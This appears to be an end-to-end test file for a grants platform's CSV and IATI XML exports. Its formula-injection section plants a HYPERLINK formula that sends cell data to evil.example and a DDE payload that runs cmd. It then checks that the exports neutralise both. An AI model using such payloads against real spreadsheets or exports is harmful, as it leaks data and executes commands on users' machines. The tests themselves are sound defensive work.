import { XMLParser, XMLValidator } from 'fast-xml-parser';
import { Role } from '@csf/domain';
import { IATI_REPORTING_ORG } from '../../apps/api/src/exports/iati-codes';
import { csvRecords, parseCsv } from '../support/csv';
import { iatiSchemaErrors } from '../support/iati-schema';
import { TestApp } from '../support/app';
import { eventually } from '../support/eventually';
import { ReviewFlow } from '../support/review-flow';

const mobileMoney = { payoutAccount: { method: 'mobile_money', provider: 'orange_money', msisdn: '+224620000000' } };
const TITLE = 'Éclairage solaire du marché de Matoto';
// Everything XML and CSV must escape or quote: the export has to carry it through intact.
const AWKWARD_NAME = 'Femmes & Jeunes "Matoto" <Sécurité>, Conakry';

type Grant = Awaited<ReturnType<ReviewFlow['approvedGrant']>>;

/** Elements that may repeat in an IATI activity are always arrays here, whatever one document holds. */
const REPEATED = new Set([
  'iati-activity',
  'narrative',
  'description',
  'participating-org',
  'activity-date',
  'recipient-country',
  'location',
  'sector',
  'budget',
  'transaction',
  'result',
  'indicator',
  'period',
  'condition',
]);
const parser = new XMLParser({
  ignoreAttributes: false,
  attributeNamePrefix: '@_',
  parseTagValue: false,
  parseAttributeValue: false,
  isArray: (name) => REPEATED.has(name),
});
const orderedParser = new XMLParser({ ignoreAttributes: false, attributeNamePrefix: '@_', preserveOrder: true });

/** The order of iati-activity's children in the IATI 2.03 schema (an xsd:sequence), and those it requires. */
const ACTIVITY_SEQUENCE = [
  'iati-identifier',
  'reporting-org',
  'title',
  'description',
  'participating-org',
  'other-identifier',
  'activity-status',
  'activity-date',
  'contact-info',
  'activity-scope',
  'recipient-country',
  'recipient-region',
  'location',
  'sector',
  'country-budget-items',
  'humanitarian-scope',
  'policy-marker',
  'collaboration-type',
  'default-flow-type',
  'default-finance-type',
  'default-aid-type',
  'default-tied-status',
  'budget',
  'planned-disbursement',
  'capital-spend',
  'transaction',
  'document-link',
  'related-activity',
  'legacy-data',
  'conditions',
  'result',
  'crs-add',
  'fss',
];
const REQUIRED_CHILDREN = [
  'iati-identifier',
  'reporting-org',
  'title',
  'description',
  'participating-org',
  'activity-status',
  'activity-date',
];
const ISO_DATE = /^\d{4}-\d{2}-\d{2}$/;
const ISO_DATETIME = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d+)?(Z|[+-]\d{2}:\d{2})$/;

type X = Record<string, any>;
/** A narrative with no attribute parses as its bare text. */
const texts = (node: X) =>
  (node.narrative as (X | string)[]).map((n) =>
    typeof n === 'string'
      ? { lang: undefined, text: n }
      : { lang: n['@_xml:lang'] as string | undefined, text: n['#text'] as string },
  );

describe('exports: proposals.csv, grants.csv and iati.xml (e2e)', () => {
  let app: TestApp;
  let flow: ReviewFlow;
  let paid: Grant;
  let pending: Grant;

  beforeAll(async () => {
    app = await TestApp.start({ PAYMENT_GATEWAY: 'manual' });
    flow = await ReviewFlow.create(app);
    paid = await flow.approvedGrant();
    pending = await flow.approvedGrant(30_000_000);
    await app.dataSource.query('UPDATE organizations SET name = $1 WHERE id = $2', [
      AWKWARD_NAME,
      paid.applicant.orgId,
    ]);

    const path = `/grants/${paid.grantId}`;
    expect(
      (await app.request('POST', `${path}/agreement/sign`, { token: paid.applicant.token, body: mobileMoney })).status,
    ).toBe(200);
    expect(
      (await app.request('POST', `${path}/tranches/1/request-release`, { token: paid.officer.token, body: {} })).status,
    ).toBe(200);
    expect(
      (await app.request('POST', `${path}/tranches/1/approve-release`, { token: paid.approver.token, body: {} }))
        .status,
    ).toBe(200);
    await eventually(
      async () =>
        (await app.request('GET', `${path}/tranches`, { token: paid.officer.token })).body[0].status === 'disbursing',
    );
    const confirmed = await app.request('POST', `${path}/tranches/1/confirm-payment`, {
      token: paid.officer.token,
      body: { reference: 'OM-EXPORT-0001', paidAt: '2027-02-15T10:00:00Z', amount: 16_000_000 },
    });
    expect(confirmed.body).toMatchObject({ status: 'disbursed' });
  });
  afterAll(() => app?.stop());

  describe('proposals.csv', () => {
    it('streams one row per proposal with French headers by default', async () => {
      const res = await app.request('GET', '/exports/proposals.csv', { token: flow.pm });
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toContain('text/csv');
      expect(res.headers.get('content-language')).toBe('fr');
      const { header, records } = csvRecords(res.body as string);
      expect(header).toEqual([
        'Identifiant',
        'Organisation',
        'Appel à propositions',
        'Intitulé',
        'Région',
        'Commune',
        'Statut',
        'Montant demandé',
        'Devise',
        'Soumise le',
        'Décidée le',
        'Score pondéré (%)',
        'Montant accordé',
        'Bénéficiaires visés',
        'dont femmes',
        'dont jeunes',
      ]);
      const row = records.find((r) => r.Identifiant === paid.proposalId)!;
      expect(row).toMatchObject({
        Organisation: AWKWARD_NAME,
        Intitulé: TITLE,
        Région: 'conakry',
        Commune: 'matoto',
        Statut: 'approved',
        'Montant demandé': '45000000',
        Devise: 'GNF',
        'Montant accordé': '40000000',
        'Bénéficiaires visés': '1200',
        'dont femmes': '650',
        'dont jeunes': '400',
      });
      expect(row['Score pondéré (%)']).toMatch(/^\d+\.\d{2}$/);
      expect(row['Soumise le']).toMatch(ISO_DATETIME);
      expect(row['Décidée le']).toMatch(ISO_DATETIME);
      expect(records.some((r) => r.Identifiant === pending.proposalId)).toBe(true);
    });

    it('switches the headers, and only the headers, to English with Accept-Language: en', async () => {
      const res = await app.request('GET', '/exports/proposals.csv', {
        token: flow.pm,
        headers: { 'accept-language': 'en-GB,en;q=0.9,fr;q=0.5' },
      });
      expect(res.headers.get('content-language')).toBe('en');
      const { header, records } = csvRecords(res.body as string);
      expect(header.slice(0, 4)).toEqual(['ID', 'Organisation', 'Funding round', 'Title']);
      expect(records.find((r) => r.ID === paid.proposalId)).toMatchObject({
        Title: TITLE,
        Status: 'approved',
        'Requested amount': '45000000',
      });
    });

    it('filters by status and refuses unknown values and parameters as problem+json', async () => {
      const approved = csvRecords(
        (await app.request('GET', '/exports/proposals.csv?status=approved&region=conakry', { token: flow.pm })).body,
      );
      expect(approved.records.length).toBeGreaterThanOrEqual(2);
      expect(approved.records.every((r) => r.Statut === 'approved')).toBe(true);
      const drafts = csvRecords(
        (await app.request('GET', '/exports/proposals.csv?status=draft', { token: flow.pm })).body,
      );
      expect(drafts.records.find((r) => r.Identifiant === paid.proposalId)).toBeUndefined();

      const bad = await app.request('GET', '/exports/proposals.csv?status=granted&region=dakar&roundId=nope', {
        token: flow.pm,
        headers: { 'accept-language': 'en' },
      });
      expect(bad.status).toBe(422);
      expect(bad.headers.get('content-type')).toContain('application/problem+json');
      expect(bad.body.code).toBe('VALIDATION_FAILED');
      expect(bad.body.errors.map((e: { field: string }) => e.field).sort()).toEqual(['region', 'roundId', 'status']);
      const unknown = await app.request('GET', '/exports/proposals.csv?colour=red', { token: flow.pm });
      expect(unknown.status).toBe(422);
      expect(unknown.body.errors).toEqual([expect.objectContaining({ field: 'colour', code: 'UNKNOWN_FIELD' })]);
    });
  });

  describe('grants.csv', () => {
    it('streams one row per grant, French by default and English on request', async () => {
      const fr = await app.request('GET', `/exports/grants.csv?roundId=${flow.roundId}`, { token: paid.officer.token });
      expect(fr.status).toBe(200);
      expect(fr.headers.get('content-type')).toContain('text/csv');
      const { header, records } = csvRecords(fr.body as string);
      expect(header).toEqual([
        'Identifiant',
        'Proposition',
        'Intitulé',
        'Organisation',
        'Appel à propositions',
        'Région',
        'Commune',
        'Statut',
        'Montant accordé',
        'Montant décaissé',
        'Montant libéré (résiliation)',
        'Reliquat restitué',
        'Devise',
        'Accord signé le',
        'Clôturée le',
        'Résiliée le',
        'À risque',
        'Bénéficiaires visés',
        'Visés : femmes',
        'Visés : jeunes',
        'Bénéficiaires atteints',
        'Atteints : femmes',
        'Atteints : jeunes',
      ]);
      expect(records).toHaveLength(2);
      const row = records.find((r) => r.Identifiant === paid.grantId)!;
      expect(row).toMatchObject({
        Proposition: paid.proposalId,
        Intitulé: TITLE,
        Organisation: AWKWARD_NAME,
        Région: 'conakry',
        Commune: 'matoto',
        Statut: 'active',
        'Montant accordé': '40000000',
        'Montant décaissé': '16000000',
        'Montant libéré (résiliation)': '0',
        Devise: 'GNF',
        'Clôturée le': '',
        'À risque': 'false',
        'Bénéficiaires visés': '1200',
        'Visés : femmes': '650',
        'Bénéficiaires atteints': '0',
      });
      expect(row['Accord signé le']).toMatch(ISO_DATETIME);
      expect(records.find((r) => r.Identifiant === pending.grantId)).toMatchObject({
        Statut: 'awaiting_agreement',
        'Montant décaissé': '0',
      });

      const en = csvRecords(
        (
          await app.request('GET', '/exports/grants.csv?status=active', {
            token: flow.pm,
            headers: { 'accept-language': 'en' },
          })
        ).body,
      );
      expect(en.header.slice(0, 3)).toEqual(['ID', 'Proposal', 'Title']);
      expect(en.records.map((r) => r.ID)).toEqual([paid.grantId]);
      expect(en.records[0]).toMatchObject({
        'Disbursed amount': '16000000',
        'At risk': 'false',
        'Target beneficiaries': '1200',
      });
    });

    it('refuses a status that grants do not have', async () => {
      const bad = await app.request('GET', '/exports/grants.csv?status=approved', { token: flow.pm });
      expect(bad.status).toBe(422);
      expect(bad.body.errors).toEqual([expect.objectContaining({ field: 'status', code: 'NOT_IN_LIST' })]);
    });
  });

  describe('iati.xml', () => {
    let xml: string;
    let activity: X;

    beforeAll(async () => {
      const res = await app.request('GET', '/exports/iati.xml', { token: flow.pm });
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toContain('application/xml');
      xml = res.body as string;
      const doc = parser.parse(xml);
      activity = (doc['iati-activities']['iati-activity'] as X[]).find(
        (a) => a['iati-identifier'] === `${IATI_REPORTING_ORG.ref}-${paid.grantId}`,
      )!;
      expect(activity).toBeDefined();
    });

    it('is a well-formed IATI 2.03 document', () => {
      expect(XMLValidator.validate(xml)).toBe(true);
      expect(xml.startsWith('<?xml version="1.0" encoding="UTF-8"?>')).toBe(true);
      const root = parser.parse(xml)['iati-activities'];
      expect(root['@_version']).toBe('2.03');
      expect(root['@_generated-datetime']).toMatch(ISO_DATETIME);
      expect(root['iati-activity']).toHaveLength(2);
    });

    it('is valid against the official IATI 2.03 activity schema', async () => {
      expect(await iatiSchemaErrors(xml)).toEqual([]);
      // The check is real: a document the schema refuses gets its errors back.
      const broken = xml.replace(/<activity-status code="\d"\/>/, '');
      expect(broken).not.toBe(xml);
      expect((await iatiSchemaErrors(broken)).join('\n')).toMatch(/activity-status/);
    });

    it('gives every activity the elements the standard requires, in the order of its schema', () => {
      const [, root] = orderedParser.parse(xml) as X[];
      for (const entry of root['iati-activities'] as X[]) {
        const children = (entry['iati-activity'] as X[]).map((child) => Object.keys(child).find((k) => k !== ':@')!);
        for (const name of REQUIRED_CHILDREN) expect(children).toContain(name);
        expect(
          children.filter(
            (name) =>
              name === 'iati-identifier' || name === 'reporting-org' || name === 'title' || name === 'activity-status',
          ),
        ).toHaveLength(4);
        const positions = children.map((name) => ACTIVITY_SEQUENCE.indexOf(name));
        expect(positions.every((p) => p >= 0)).toBe(true);
        expect(positions).toEqual([...positions].sort((a, b) => a - b));
        expect(entry[':@']).toMatchObject({ '@_xml:lang': 'fr', '@_default-currency': 'GNF' });
        expect(entry[':@']['@_last-updated-datetime']).toMatch(ISO_DATETIME);
      }
    });

    it('describes the grant: identifier, bilingual narratives, organisations, status, dates, place and sector', () => {
      expect(activity['reporting-org']).toMatchObject({
        '@_ref': IATI_REPORTING_ORG.ref,
        '@_type': IATI_REPORTING_ORG.type,
      });
      expect(texts(activity['reporting-org']).map((n) => n.lang)).toEqual(['fr', 'en']);
      const title = texts(activity.title);
      expect(title.map((n) => n.lang)).toEqual(['fr', 'en']);
      for (const narrative of title) expect(narrative.text).toContain(TITLE);
      const general = (activity.description as X[]).find((d) => d['@_type'] === '1')!;
      expect(texts(general).map((n) => n.lang)).toEqual(['fr', 'en']);
      expect(texts(general)[0].text).toContain(AWKWARD_NAME);
      expect(texts(general)[0].text).toContain('Installer 20 lampadaires solaires');

      const orgs = activity['participating-org'] as X[];
      expect(orgs.find((o) => o['@_role'] === '1')).toMatchObject({ '@_ref': IATI_REPORTING_ORG.ref });
      const implementing = orgs.find((o) => o['@_role'] === '4')!;
      expect(implementing['@_type']).toBe('24');
      expect(texts(implementing)[0].text).toBe(AWKWARD_NAME);

      expect(activity['activity-status']['@_code']).toBe('2');
      const dates = Object.fromEntries((activity['activity-date'] as X[]).map((d) => [d['@_type'], d['@_iso-date']]));
      expect(dates['1']).toBe('2027-02-01');
      expect(dates['3']).toBe('2027-12-31');
      expect(dates['2']).toMatch(ISO_DATE);
      expect(dates['4']).toBeUndefined();

      expect(activity['recipient-country']).toEqual([expect.objectContaining({ '@_code': 'GN' })]);
      const [location] = activity.location as X[];
      expect(location['@_ref']).toBe('conakry/matoto');
      expect(texts(location.name)).toEqual([
        { lang: 'fr', text: 'Conakry' },
        { lang: 'en', text: 'Conakry' },
      ]);
      expect(activity.sector).toEqual([expect.objectContaining({ '@_vocabulary': '1', '@_code': '15220' })]);
    });

    it('reports the budget, the award as a commitment and the paid tranche as a disbursement', () => {
      const budgets = activity.budget as X[];
      expect(budgets).toHaveLength(1);
      expect(budgets[0]['period-start']['@_iso-date']).toBe('2027-02-01');
      expect(budgets[0]['period-end']['@_iso-date']).toBe('2027-12-31');
      expect(budgets[0].value).toMatchObject({
        '#text': '40000000',
        '@_currency': 'GNF',
        '@_value-date': '2027-02-01',
      });

      const transactions = activity.transaction as X[];
      const commitments = transactions.filter((t) => t['transaction-type']['@_code'] === '2');
      expect(commitments).toHaveLength(1);
      expect(commitments[0].value).toMatchObject({ '#text': '40000000', '@_currency': 'GNF' });
      expect(commitments[0].value['@_value-date']).toMatch(ISO_DATE);
      expect(commitments[0]['transaction-date']['@_iso-date']).toMatch(ISO_DATE);
      const disbursements = transactions.filter((t) => t['transaction-type']['@_code'] === '3');
      expect(disbursements).toHaveLength(1);
      expect(disbursements[0]).toMatchObject({
        '@_ref': 'OM-EXPORT-0001',
        'transaction-date': { '@_iso-date': '2027-02-15' },
        value: { '#text': '16000000', '@_currency': 'GNF', '@_value-date': '2027-02-15' },
      });
      expect(texts(disbursements[0]['receiver-org'])[0].text).toBe(AWKWARD_NAME);
      expect(activity.conditions['@_attached']).toBe('0');
    });

    it('reports results: indicators with targets over the project period', () => {
      const [result] = activity.result as X[];
      expect(result['@_type']).toBe('1');
      expect(texts(result.title).map((n) => n.lang)).toEqual(['fr', 'en']);
      const indicators = result.indicator as X[];
      const byTitle = (text: string) => indicators.find((i) => texts(i.title).some((n) => n.text === text))!;
      const reached = byTitle('People reached');
      expect(reached['@_measure']).toBe('1');
      expect(reached.period[0]).toMatchObject({
        'period-start': { '@_iso-date': '2027-02-01' },
        'period-end': { '@_iso-date': '2027-12-31' },
        target: { '@_value': '1200' },
      });
      // No report accepted yet: no actual is claimed.
      expect(reached.period[0].actual).toBeUndefined();
      expect(byTitle('Women reached').period[0].target['@_value']).toBe('650');
      expect(byTitle('Personnes touchées').period[0].target['@_value']).toBe('1200');
    });

    it('maps a grant awaiting its agreement to pipeline, and filters like grants.csv', async () => {
      const doc = parser.parse(
        (
          await app.request('GET', `/exports/iati.xml?status=awaiting_agreement&roundId=${flow.roundId}`, {
            token: flow.pm,
          })
        ).body,
      );
      const activities = doc['iati-activities']['iati-activity'] as X[];
      expect(activities.map((a) => a['iati-identifier'])).toEqual([`${IATI_REPORTING_ORG.ref}-${pending.grantId}`]);
      expect(activities[0]['activity-status']['@_code']).toBe('1');
      expect((activities[0].transaction as X[]).map((t) => t['transaction-type']['@_code'])).toEqual(['2']);
      expect((activities[0].transaction as X[])[0].value['#text']).toBe('30000000');
      const bad = await app.request('GET', '/exports/iati.xml?region=atlantis', { token: flow.pm });
      expect([bad.status, bad.body.errors[0]]).toEqual([
        422,
        expect.objectContaining({ field: 'region', code: 'UNKNOWN_REGION' }),
      ]);
      // The schema wants at least one activity: an empty selection is a problem, not an invalid file.
      const none = await app.request('GET', `/exports/iati.xml?status=closed&roundId=${flow.roundId}`, {
        token: flow.pm,
      });
      expect([
        none.status,
        none.body.code,
        none.headers.get('content-type'),
        none.headers.get('content-disposition'),
      ]).toEqual([404, 'NOTHING_TO_EXPORT', expect.stringContaining('application/problem+json'), null]);
    });
  });

  // Runs after the exports above have been checked with ordinary names: it turns a title and a name into formulas.
  describe('formula injection', () => {
    const FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"clic")';
    const FORMULA_NAME = "@SUM(1+9)*cmd|' /C calc'!A0";

    beforeAll(async () => {
      await app.dataSource.query('UPDATE proposals SET title = $1 WHERE id = $2', [FORMULA_TITLE, pending.proposalId]);
      await app.dataSource.query('UPDATE organizations SET name = $1 WHERE id = $2', [
        FORMULA_NAME,
        paid.applicant.orgId,
      ]);
    });

    it('proposals.csv: a title or a name that a spreadsheet would run is quoted as text', async () => {
      const { records } = csvRecords((await app.request('GET', '/exports/proposals.csv', { token: flow.pm })).body);
      expect(records.find((r) => r.Identifiant === pending.proposalId)).toMatchObject({
        Intitulé: `'${FORMULA_TITLE}`,
        'Montant demandé': '45000000',
      });
      expect(records.find((r) => r.Identifiant === paid.proposalId)).toMatchObject({
        Organisation: `'${FORMULA_NAME}`,
        Intitulé: TITLE,
      });
    });

    it('grants.csv: the same, while amounts stay numbers', async () => {
      const { records } = csvRecords(
        (await app.request('GET', `/exports/grants.csv?roundId=${flow.roundId}`, { token: flow.pm })).body,
      );
      expect(records.find((r) => r.Identifiant === pending.grantId)).toMatchObject({
        Intitulé: `'${FORMULA_TITLE}`,
        'Montant accordé': '30000000',
      });
      expect(records.find((r) => r.Identifiant === paid.grantId)).toMatchObject({
        Organisation: `'${FORMULA_NAME}`,
        'Montant décaissé': '16000000',
      });
    });

    it('disbursements.csv: the payee organisation is quoted as text, the amount stays a number', async () => {
      const rows = parseCsv(
        (await app.request('GET', '/exports/disbursements.csv', { token: paid.officer.token })).body,
      );
      const row = rows.find((r) => r.includes(paid.grantId))!;
      expect(row).toEqual(expect.arrayContaining([`'${FORMULA_NAME}`, '16000000']));
      expect(rows.flat().some((cell) => /^[=+@\t\r]/.test(cell) || /^-(?!\d+(\.\d+)?$)/.test(cell))).toBe(false);
    });
  });

  it('lets finance, programme, admin and audit staff export, and refuses applicants, reviewers and the committee chair', async () => {
    const admin = await app.actor([Role.ADMIN]);
    const auditor = await app.actor([Role.AUDITOR]);
    const paths = ['/exports/proposals.csv', '/exports/grants.csv', '/exports/iati.xml', '/exports/disbursements.csv'];
    for (const path of paths) {
      for (const token of [admin.token, auditor.token, paid.approver.token])
        expect((await app.request('GET', path, { token })).status).toBe(200);
      for (const token of [paid.applicant.token, flow.reviewers[0].token, flow.chair]) {
        const refused = await app.request('GET', path, { token });
        expect([refused.status, refused.headers.get('content-type')]).toEqual([
          403,
          expect.stringContaining('application/problem+json'),
        ]);
      }
      expect((await app.request('GET', path)).status).toBe(401);
    }
  });
});
